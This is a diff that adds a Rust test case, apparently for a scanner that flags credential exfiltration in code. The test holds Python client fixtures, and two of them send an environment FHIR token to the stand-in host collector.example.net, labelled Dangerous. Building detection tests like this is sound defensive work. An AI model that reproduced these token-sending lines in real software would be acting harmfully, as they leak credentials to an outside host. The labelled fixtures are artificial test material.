@@ -587,3 +587,111 @@ main();
 "##.to_owned(), Dangerous, "exfiltration"),
     ]);
 }
+
+/// A Python client class keeps its base URL in `self.base` and the token in its session: a read
+/// of `self.base` in a method is what the class stored there, not everything the instance holds.
+#[test]
+fn python_self_attribute_is_what_was_stored() {
+    rows(&[
+        // a client class: the base URL (this machine) in `self.base`, the token in its session
+        (
+            Py,
+            r##"import os
+
+import requests
+
+
+class Client:
+    def __init__(self, base, token):
+        self.base = base
+        self.session = requests.Session()
+        self.session.headers["Authorization"] = f"Bearer {token}"
+
+    def get(self, path):
+        return self.session.get(self.base + path)
+
+
+c = Client("http://localhost:8080", os.environ.get("FHIR_TOKEN"))
+print(c.get("/metadata").status_code)
+"##
+            .to_owned(),
+            Clean,
+            "",
+        ),
+        // the same client at a name of the network's own zone
+        (
+            Py,
+            r##"import os
+
+import requests
+
+
+class Client:
+    def __init__(self, base, token):
+        self.base = base
+        self.session = requests.Session()
+        self.session.headers["Authorization"] = f"Bearer {token}"
+
+    def get(self, path):
+        return self.session.get(self.base + path)
+
+
+c = Client("http://fhir.internal:8080", os.environ.get("FHIR_TOKEN"))
+print(c.get("/metadata").status_code)
+"##
+            .to_owned(),
+            Clean,
+            "",
+        ),
+        // twin: the token stored in `self.token` and posted to a host nobody answers for
+        (
+            Py,
+            r##"import os
+
+import requests
+
+
+class Client:
+    def __init__(self, base, token):
+        self.base = base
+        self.session = requests.Session()
+        self.token = token
+
+    def get(self, path):
+        return self.session.post("https://collector.example.net" + path, data=self.token)
+
+
+c = Client("http://fhir.internal:8080", os.environ.get("FHIR_TOKEN"))
+print(c.get("/metadata").status_code)
+"##
+            .to_owned(),
+            Dangerous,
+            "exfiltration",
+        ),
+        // twin: the same client given a host nobody answers for
+        (
+            Py,
+            r##"import os
+
+import requests
+
+
+class Client:
+    def __init__(self, base, token):
+        self.base = base
+        self.session = requests.Session()
+        self.session.headers["Authorization"] = f"Bearer {token}"
+
+    def get(self, path):
+        return self.session.get(self.base + path)
+
+
+c = Client("https://collector.example.net", os.environ.get("FHIR_TOKEN"))
+print(c.get("/metadata").status_code)
+"##
+            .to_owned(),
+            Dangerous,
+            "exfiltration",
+        ),
+    ]);
+}
